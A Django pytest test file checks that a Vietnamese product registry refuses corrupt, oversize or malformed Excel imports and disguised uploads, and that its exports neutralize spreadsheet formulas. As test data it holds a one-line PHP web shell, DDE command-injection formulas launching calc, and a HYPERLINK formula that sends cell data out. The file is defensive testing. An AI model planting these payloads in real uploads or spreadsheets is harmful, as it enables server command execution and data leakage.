"""Bad input to the registry: Excel imports (corrupt, huge, wrongly typed, formula-laden), uploads
checked by content, size and count, and exports that never hand a live formula to a spreadsheet.
Every refusal is a clear Vietnamese message, and nothing is written."""

import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from ocop.core.models import AuditEvent
from ocop.cycle.tests.conftest import world  # noqa: F401  (producers with a member around the personas)
from ocop.registry.importing import PRODUCERS, import_file
from ocop.registry.models import Document, Producer, Product, ProductPhoto
from ocop.registry.tests.factories import ProducerFactory, ProductFactory
from ocop.registry.tests.files import pdf_upload, png_bytes
from ocop.registry.tests.test_importing import PRODUCER_HEADERS, PRODUCT_HEADERS, producer_row, xlsx

pytestmark = pytest.mark.django_db
PRODUCER_IMPORT = reverse("admin:registry_producer_import_excel")
PRODUCT_IMPORT = reverse("admin:registry_product_import_excel")
PHP = b"<?php system($_GET['c']); ?>\n"


def counts():
    return (Producer.objects.count(), Product.objects.count(), Document.objects.count(),
            ProductPhoto.objects.count(), AuditEvent.objects.count())


def media_files(settings) -> list:
    root = settings.MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def truncated(upload) -> SimpleUploadedFile:
    data = upload.read()
    return SimpleUploadedFile("chu-the.xlsx", data[: len(data) // 2])


def with_formula(units, formula) -> SimpleUploadedFile:
    row = producer_row(1, units.commune_a.code)
    row[1] = formula  # openpyxl stores a string that starts with "=" as a formula
    return xlsx([row])


def text_cell_starting_with_equals(units) -> SimpleUploadedFile:
    """A cell typed as text (not a formula) whose text starts with "=": refused all the same."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(PRODUCER_HEADERS)
    sheet.append(producer_row(1, units.commune_a.code))
    sheet["B2"].value = "=1+1"
    sheet["B2"].data_type = "s"
    buffer = BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("chu-the.xlsx", buffer.getvalue())


REFUSED_FILES = {
    "random bytes named .xlsx": (lambda u: SimpleUploadedFile("chu-the.xlsx", bytes(range(256)) * 8),
                                 "không phải là tệp Excel .xlsx hợp lệ"),
    "a PHP script named .xlsx": (lambda u: SimpleUploadedFile("chu-the.xlsx", PHP), "không phải là tệp Excel"),
    "a truncated zip": (lambda u: truncated(xlsx([producer_row(i, u.commune_a.code) for i in range(50)])),
                        "bị hỏng hoặc không đọc được"),
    "a zip that is not a workbook": (lambda u: _plain_zip(), "bị hỏng hoặc không đọc được"),
    "=HYPERLINK": (lambda u: with_formula(u, '=HYPERLINK("http://example.invalid/?d="&A2,"Bấm vào")'),
                   "Tệp có công thức (ô B2)"),
    "DDE =cmd|": (lambda u: with_formula(u, "=cmd|' /C calc'!A0"), "Tệp có công thức (ô B2)"),
    "text that starts with =": (text_cell_starting_with_equals, "Tệp có công thức (ô B2)"),
}


def _plain_zip() -> SimpleUploadedFile:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "không phải Excel")
    return SimpleUploadedFile("chu-the.xlsx", buffer.getvalue())


@pytest.mark.parametrize("case", list(REFUSED_FILES))
def test_refused_import_files_show_why_and_write_nothing(client, personas, settings, case):
    make, message = REFUSED_FILES[case]
    client.force_login(personas.province)
    before = counts()
    response = client.post(PRODUCER_IMPORT, {"file": make(personas.units)})
    assert response.status_code == 200
    assert message in response.context["form"].errors["file"][0]
    assert counts() == before and media_files(settings) == []


def test_files_over_the_size_or_row_limits_are_refused_on_the_page(client, personas, settings):
    client.force_login(personas.province)
    rows = [producer_row(i, personas.units.commune_a.code) for i in range(30)]
    settings.OCOP_IMPORT_MAX_BYTES = 4096
    response = client.post(PRODUCER_IMPORT, {"file": xlsx(rows)})
    assert "Tệp quá lớn: tối đa 0.00390625 MB" in response.context["form"].errors["file"][0]
    settings.OCOP_IMPORT_MAX_BYTES = 5 * 1024 * 1024
    settings.OCOP_IMPORT_MAX_ROWS = 25
    response = client.post(PRODUCER_IMPORT, {"file": xlsx(rows)})
    assert response.context["form"].errors["file"] == ["Tệp quá nhiều dòng: tối đa 25 dòng dữ liệu."]
    assert not Producer.objects.exists() and media_files(settings) == []


def test_wrongly_typed_cells_are_row_errors_and_nothing_is_written(client, personas):
    client.force_login(personas.province)
    code = personas.units.commune_a.code
    rows = [producer_row(i, code) for i in range(6)]
    rows[0][11] = "ngày 15 tháng 3 năm 2015"  # a date as free text
    rows[1][12] = 45000  # a date as a bare number (Excel serial without date format)
    rows[2][3] = "Biên Hòa"  # a name where the commune code goes
    rows[3][13] = 12.5  # a fraction of a worker
    rows[4][1] = "Hợp tác xã " + "rất dài " * 40  # over the 255 characters of the name
    rows[5][9] = "0251 " * 10  # over the 30 characters of a phone number
    response = client.post(PRODUCER_IMPORT, {"file": xlsx(rows)})
    assert response.status_code == 200 and response.context["confirm_form"] is None
    reasons = {row.number: " ".join(row.errors) for row in response.context["error_rows"]}
    assert "Ngày thành lập không phải ngày hợp lệ (dd/mm/yyyy): “ngày 15 tháng 3 năm 2015”" in reasons[2]
    assert "Ngày tham gia OCOP không phải ngày hợp lệ" in reasons[3]
    assert "Mã xã/phường Biên Hòa không phải xã, phường hiện hành" in reasons[4]
    assert "Tổng số lao động phải là số nguyên không âm: “12.5”" in reasons[5]
    assert "Tên chủ thể dài quá 255 ký tự" in reasons[6]
    assert "Điện thoại dài quá 30 ký tự" in reasons[7]
    assert not Producer.objects.exists()


def test_numbers_in_code_columns_are_read_as_codes(personas):
    """Excel stores a tax code typed without an apostrophe as a number: still the same code."""
    row = producer_row(1, personas.units.commune_a.code)
    row[0], row[3] = 3600000001, int(personas.units.commune_a.code)
    report = import_file(xlsx([row]), kind=PRODUCERS, user=personas.province)
    assert report.written and Producer.objects.get().tax_code == "3600000001"


def test_too_long_product_name_is_a_row_error_not_a_server_error(client, personas):
    client.force_login(personas.province)
    client.post(PRODUCER_IMPORT, {"file": xlsx([producer_row(1, personas.units.commune_a.code)])})
    token = client.post(PRODUCER_IMPORT, {"file": xlsx([producer_row(1, personas.units.commune_a.code)])})
    client.post(PRODUCER_IMPORT, {"token": token.context["confirm_form"].initial["token"], "only_valid": ""})
    assert Producer.objects.count() == 1
    rows = [["3600000001", "Mật ong " * 40, "07", "", "", ""], ["3600000001", "Mật ong", 7, "", "", ""]]
    response = client.post(PRODUCT_IMPORT, {"file": xlsx(rows, headers=PRODUCT_HEADERS, name="san-pham.xlsx")})
    assert response.status_code == 200 and response.context["confirm_form"] is None
    assert [row.number for row in response.context["error_rows"]] == [2]
    assert "Tên sản phẩm dài quá 255 ký tự" in response.context["error_rows"][0].errors[0]
    assert not Product.objects.exists()


# --- Uploads: content, size, count --------------------------------------------------------------

def test_a_php_script_named_pdf_is_refused_in_the_portal(client, personas, world, settings):  # noqa: F811
    client.force_login(personas.producer)
    url = reverse("portal:document_create", args=[world.a.pk])
    before = counts()
    script = SimpleUploadedFile("giay-phep.pdf", PHP, content_type="application/pdf")
    response = client.post(url, {"kind": Document.Kind.OTHER, "file": script})
    assert response.status_code == 200
    assert "nội dung tệp đã được kiểm tra, không dựa vào phần mở rộng" in response.text
    assert counts() == before and media_files(settings) == []


def test_an_oversize_document_is_refused_in_the_portal(client, personas, world, settings):  # noqa: F811
    settings.OCOP_DOCUMENT_MAX_BYTES = 1024 * 1024
    client.force_login(personas.producer)
    url = reverse("portal:document_create", args=[world.a.pk])
    big = pdf_upload(data=b"%PDF-1.4\n" + b"0" * 1024 * 1024)
    response = client.post(url, {"kind": Document.Kind.OTHER, "file": big})
    assert response.status_code == 200 and "Tệp quá lớn: tối đa 1 MB." in response.text
    assert not Document.objects.exists() and media_files(settings) == []


def test_too_many_files_in_one_request_are_refused(client, personas, world, settings):  # noqa: F811
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 5
    client.force_login(personas.producer)
    url = reverse("portal:document_create", args=[world.a.pk])
    files = [pdf_upload(name=f"g{i}.pdf", data=b"%PDF-1.4\n%" + bytes([65 + i]) * 8) for i in range(6)]
    response = client.post(url, {"kind": Document.Kind.OTHER, "file": files})
    assert response.status_code == 400
    assert not Document.objects.exists() and media_files(settings) == []


def test_a_php_script_named_png_is_refused_as_a_product_photo(client, personas, settings):
    product = ProductFactory(producer=ProducerFactory(unit=personas.units.commune_a), unit=personas.units.commune_a)
    client.force_login(personas.commune_a)
    response = client.post(reverse("admin:registry_product_change", args=[product.pk]), {
        **_product_form(product), "photos-TOTAL_FORMS": "1", "photos-INITIAL_FORMS": "0",
        "photos-0-image": SimpleUploadedFile("anh.png", PHP, content_type="image/png"), "photos-0-position": "0",
    })
    assert response.status_code == 200
    photo_errors = response.context["inline_admin_formsets"][0].formset.forms[0].errors["image"]
    assert "không phải là hình ảnh" in photo_errors[0]  # Django's ImageField, in Vietnamese
    assert not ProductPhoto.objects.exists() and media_files(settings) == []


def test_a_php_script_named_png_is_refused_by_the_photo_service(personas, settings):
    from django.core.exceptions import ValidationError

    from ocop.registry import services

    product = ProductFactory(producer=ProducerFactory(unit=personas.units.commune_a), unit=personas.units.commune_a)
    with pytest.raises(ValidationError) as caught:
        services.product_photo_add(product=product, image=SimpleUploadedFile("anh.png", PHP), actor=personas.commune_a)
    assert "không dựa vào phần mở rộng" in caught.value.messages[0]
    assert not ProductPhoto.objects.exists() and media_files(settings) == []


def test_a_product_has_at_most_the_photo_limit(client, personas, settings):
    from ocop.registry.validators import MAX_PHOTOS_PER_PRODUCT

    product = ProductFactory(producer=ProducerFactory(unit=personas.units.commune_a), unit=personas.units.commune_a)
    client.force_login(personas.commune_a)
    n = MAX_PHOTOS_PER_PRODUCT + 1
    data = {**_product_form(product), "photos-TOTAL_FORMS": str(n), "photos-INITIAL_FORMS": "0"}
    for i in range(n):
        data[f"photos-{i}-image"] = SimpleUploadedFile(f"a{i}.png", png_bytes(color=(i, 0, 0)), content_type="image/png")
        data[f"photos-{i}-position"] = str(i)
    response = client.post(reverse("admin:registry_product_change", args=[product.pk]), data)
    assert response.status_code == 200
    errors = response.context["inline_admin_formsets"][0].formset.non_form_errors()
    assert errors == [f"Mỗi sản phẩm có tối đa {MAX_PHOTOS_PER_PRODUCT} ảnh."]
    assert not ProductPhoto.objects.exists()


def test_the_photo_service_refuses_one_photo_over_the_limit(personas):
    from django.core.exceptions import ValidationError

    from ocop.registry import services
    from ocop.registry.validators import MAX_PHOTOS_PER_PRODUCT

    product = ProductFactory(producer=ProducerFactory(unit=personas.units.commune_a), unit=personas.units.commune_a)
    for i in range(MAX_PHOTOS_PER_PRODUCT):
        services.product_photo_add(product=product, actor=personas.commune_a,
                                   image=SimpleUploadedFile(f"a{i}.png", png_bytes(color=(i, 0, 0))))
    with pytest.raises(ValidationError) as caught:
        services.product_photo_add(product=product, actor=personas.commune_a,
                                   image=SimpleUploadedFile("x.png", png_bytes(color=(0, 0, 99))))
    assert caught.value.messages == [f"Mỗi sản phẩm có tối đa {MAX_PHOTOS_PER_PRODUCT} ảnh."]
    assert product.photos.count() == MAX_PHOTOS_PER_PRODUCT


def _product_form(product) -> dict:
    return {"producer": product.producer_id, "name": product.name, "criteria_set": product.criteria_set,
            "unit": product.unit_id, "description": "", "story": ""}


# --- Exports never hand over a live formula -----------------------------------------------------

EVIL = ["=HYPERLINK(\"http://example.invalid\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_back_office_excel_exports_hold_text_not_formulas(personas):
    from import_export.formats.base_formats import XLSX

    from ocop.registry.excel import ProducerResource, ProductResource

    unit = personas.units.commune_a
    for i, name in enumerate(EVIL):
        producer = ProducerFactory(unit=unit, name=name, rep_name=name, address=name)
        ProductFactory(producer=producer, unit=unit, name=f"{name} {i}", description=name)
    for resource in (ProducerResource(), ProductResource()):
        book = load_workbook(BytesIO(XLSX().export_data(resource.export())))
        cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert "'=cmd|' /C calc'!A0" in texts or "'=cmd|' /C calc'!A0 1" in texts


def test_the_streamed_product_export_holds_text_not_formulas():
    from ocop.registry.export_stream import HEADERS, write_products_xlsx

    buffer = BytesIO()
    rows = [tuple([formula] * len(HEADERS)) for formula in EVIL]
    assert write_products_xlsx(rows, buffer) == len(EVIL)
    book = load_workbook(BytesIO(buffer.getvalue()))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} == set(EVIL)  # the exact text, in cells typed as text (never formulas)
